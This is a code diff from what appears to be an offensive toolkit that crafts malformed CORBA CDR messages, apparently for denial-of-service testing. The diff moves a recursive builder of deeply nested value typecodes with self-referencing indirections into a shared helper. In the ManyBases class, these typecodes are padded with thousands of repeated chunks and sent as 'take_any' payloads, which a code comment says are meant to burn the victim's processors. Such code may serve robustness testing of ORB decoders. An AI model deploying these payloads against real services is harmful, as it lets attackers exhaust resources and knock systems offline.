@@ -4,9 +4,9 @@ long to check."""
 import struct
 
 from attack.attack import Attack, NotHeld
-from attack.cdr import (TK_ARRAY, TK_ENUM, TK_LONG, TK_NULL, TK_OCTET, TK_SEQUENCE, TK_STRUCT, TK_UNION, TK_VALUE, Cdr,
+from attack.cdr import (TK_ARRAY, TK_ENUM, TK_LONG, TK_OCTET, TK_SEQUENCE, TK_STRUCT, TK_UNION, Cdr,
                         struct_type)
-from attack.themes.crashes import REFUSED
+from attack.themes.crashes import REFUSED, derived_value
 from attack.usage import Usage
 
 MILLISECONDS_PER_64_KIB = 50  # of the victim's processors, generously: the machine is shared, caches are cold
@@ -181,18 +181,9 @@ class ManyBases(_Work):
     def bombs(self):
         for bases in (1, 60, 100, 126):
             body = Cdr()
-            self._derived(body, bases, body.mark())
+            derived_value(body, bases, body.mark())
             count = 2000
             yield "take_any", bytes(body) + (b"\x00\xff\xff\x7f" + bytes(4 * bases)) * count + bytes(8)
-
-    def _derived(self, cdr, bases, start):
-        if bases == 0:
-            cdr.ulong(TK_NULL)
-            return
-        with cdr.complex_type(TK_VALUE, f"IDL:B{bases}:1.0", "B"):
-            cdr.put("h", 0)
-            self._derived(cdr, bases - 1, start)
-            cdr.ulong(1).string("m").indirection(start).put("h", 1)
 
 
 class LeavesAtOnce(_Work):
